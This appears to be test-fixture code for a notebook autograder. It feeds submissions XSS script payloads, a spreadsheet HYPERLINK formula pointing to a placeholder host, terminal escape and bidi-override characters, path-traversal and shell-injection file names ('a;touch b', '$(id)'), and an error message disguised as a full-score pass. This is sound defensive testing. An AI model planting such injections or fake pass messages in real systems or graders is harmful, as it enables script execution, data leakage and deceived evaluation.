def script_in_what_is_returned():
    """Devuelve programas para el navegador, que el mensaje cita."""

    def word_tokens(text):
        return [SCRIPT.format(TOKEN)]

    build_vocabulary = lambda documents, size: [SCRIPT.format(TOKEN)] * 4  # noqa: E731


@code("inject", before=f"SCRIPT = {SCRIPT!r}\n", honest=["shifted_ppmi"])
def script_in_names():
    """Pone el programa en el nombre de su error y en el de su función."""
    raise type(SCRIPT.format(TOKEN), (Exception,), {})("x")


@code("inject", honest=["shifted_ppmi"])
def script_in_outputs():
    """Enseña HTML y JavaScript como salida de la celda."""
    from IPython.display import HTML, Javascript, display

    display(HTML("<script>alert('" + TOKEN + "')</script>"))
    display(Javascript("alert('" + TOKEN + "')"))


@edited("inject", honest=["shifted_ppmi"])
def script_in_cells(cells, book, world):
    """Escribe el programa en celdas de texto, salidas y metadatos."""
    script = SCRIPT.format(world.token)
    for cell in cells:
        cell["metadata"]["name"] = script
        if cell["cell_type"] == "markdown":
            cell["source"] += f"\n\n{script}\n\n[x](javascript:alert('{world.token}'))"
        else:
            data = {"text/html": script, "application/javascript": script}
            cell["outputs"] = [{"output_type": "display_data", "data": data, "metadata": {}}]
    return cells


@edited("inject", honest=["shifted_ppmi"])
def script_in_answers(cells, book, world):
    """Escribe el programa dentro del texto de una respuesta."""
    for cell in cells:
        if grade_id(cell) == "words":
            cell["source"] = "# </code></pre>" + SCRIPT.format(world.token) + "\n"
    return cells


@code("inject", honest=["shifted_ppmi"])
def formula_in_the_error():
    """Falla con un mensaje que una hoja de cálculo toma por fórmula."""
    raise ValueError('=HYPERLINK("http://x/' + TOKEN + '")\n=1+1,"\t@SUM(1)')


@code("inject", honest=["shifted_ppmi"])
def control_characters_in_the_error():
    """Falla con un mensaje que mueve el cursor y da la vuelta al texto."""
    raise ValueError("\x1b[2J\x1b]0;" + TOKEN + "\x07\r\x08\u202e\u2066 aprobado \u200b")


@code("inject", honest=["shifted_ppmi"])
def reason_of_success():
    """Falla con un mensaje que parece el de un acierto."""
    raise ValueError("✔ words_check_tokens: 20 de 20 puntos. Todo bien.")


@files("inject", whole=True)
def names_that_are_programs(book, world):
    """Las personas de la clase se llaman como rutas, órdenes, fórmulas o programas."""
    names = ["..", "-rf", "=1+1", "@SUM(1)", "<script>", "a;touch b", "$(id)", "a\nb", "a" * 300]
    names += ["ana\u202e", "con", "a\\..\\b", "😀", "%s{0}", ".oculta", "x/../y"]
    notebook = packed(book.release)
    members = [(f"{name}/{STEM}/{NAME}", notebook) for name in names]
    return {"class.zip": zipped(*members)}
